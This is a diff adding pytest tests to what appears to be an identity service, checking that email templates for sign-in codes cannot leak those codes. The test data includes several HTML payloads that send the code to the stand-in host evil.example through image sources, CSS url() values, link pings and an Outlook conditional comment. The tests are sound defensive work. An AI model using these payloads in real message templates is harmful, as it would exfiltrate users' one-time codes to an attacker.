@@ -3,10 +3,13 @@
 import pytest
 
 from identity.users.models import User
+from identity.users.notices import Notice
 from interaction.connectors.models import Connector
+from interaction.experience import services as experience
+from interaction.experience.message_templates import CODES
 from tests.support import codes, management, operators
 from tests.support.factors import switch_on
-from tests.support.management import result_of
+from tests.support.management import refusal_of, result_of
 from tests.support.old_tokens import is_refused, new_recent, new_thief
 from tests.support.site_sessions import age
 
@@ -119,3 +122,86 @@ class TestConnectors:
         for operation in ("disable", "delete"):
             asked = session.get(f"{page}/{operation}/").headers.get("Location", "")
             assert asked.startswith("/admin/confirm/")
+
+
+class TestMessages:
+    """The template of a message may send its code to another server, for example with a picture."""
+
+    PICTURE = '<p>{code}</p><img src="https://evil.example/p.gif?c={code}">'
+
+    @pytest.fixture(autouse=True)
+    def codes_by_email(self, acme):
+        switch_on(acme, "Totp", EMAIL)
+
+    @pytest.fixture
+    def session(self, acme):
+        operator = operators.at(acme)
+        age(operator)
+        return operator
+
+    def template(self, **more):
+        template = {"purpose": "second_factor", "channel": "email", "language": "", "subject": "Hello"}
+        return template | {"text": "{code}", "html": "<p>{code}</p>"} | more
+
+    def send(self, caller, *templates):
+        return caller.patch("/sign-in-experience", message_templates=list(templates))
+
+    @pytest.mark.parametrize("purpose", CODES)
+    def test_attack_AP47_an_old_token_does_not_change_where_the_code_is_shown(self, admin, thief, purpose):
+        own = self.template(purpose=purpose)
+
+        assert is_refused(self.send(thief, own))
+        result_of(self.send(admin, own))
+        assert is_refused(self.send(thief))
+        assert is_refused(self.send(thief, own | {"text": "https://evil.example/{code}"}))
+        assert result_of(admin.get("/sign-in-experience"))["message_templates"] == [own]
+
+    def test_attack_AP47_a_recent_one_does_and_so_does_an_application(self, acme, recent):
+        for language, caller in (("de", recent), ("fr", management.machine(acme))):
+            result_of(self.send(caller, self.template(language=language)))
+
+    def test_attack_AP47_messages_without_such_codes_need_no_proof(self, admin, thief):
+        own = [self.template(), self.template(language="de")]
+        result_of(self.send(admin, *own))
+        notice = self.template(purpose=Notice.PASSWORD_CHANGED, text="Hello", html="")
+        sms = self.template(channel="sms", subject="", html="")
+
+        result_of(self.send(thief, sms, *reversed(own), notice))
+
+    def test_attack_AP47_an_unattended_session_changes_none_either(self, acme, session):
+        with acme.active():
+            pk = experience.current().pk
+        page = f"/admin/experience/signinexperience/{pk}/do"
+
+        asked = session.get(f"{page}/message-second_factor-email-any/")
+
+        assert asked.headers["Location"].startswith("/admin/confirm/")
+        for other in ("second_factor-sms-any", f"{Notice.PASSWORD_CHANGED}-email-any"):
+            assert session.get(f"{page}/message-{other}/").status_code == 200
+
+    @pytest.mark.parametrize(
+        "html",
+        [
+            PICTURE,
+            "{code}<p style='background: url(https://evil.example/{code})'>",
+            "{code}<a href='https://evil.example/' ping='https://evil.example/{code}'>",
+            "{code}<style>p { background: url(https://evil.example/{code}) }</style>",
+            "{code}<style/>p { background: url(https://evil.example/{code}) }</style>",
+            "{code}<!--[if mso]><img src='https://evil.example/{code}'><![endif]-->",
+            "{code}<img src='https://evil.example/{code}",
+        ],
+    )
+    def test_attack_AP47_nobody_has_pictures_tell_the_code(self, recent, html):
+        says = "may contain {code} only in the text and in the href of a link"
+
+        assert says in refusal_of(self.send(recent, self.template(html=html)), 400)
+
+    @pytest.mark.parametrize(
+        "html",
+        [
+            "<!DOCTYPE html><title>{code}</title><style>p > b { color: red }</style><b>{code}</b> 1 < 2",
+            "<a href='https://app.example/enter?code={code}'>Enter {code}</a>",
+        ],
+    )
+    def test_people_may_read_it_and_follow_a_link_with_it(self, recent, html):
+        result_of(self.send(recent, self.template(html=html)))
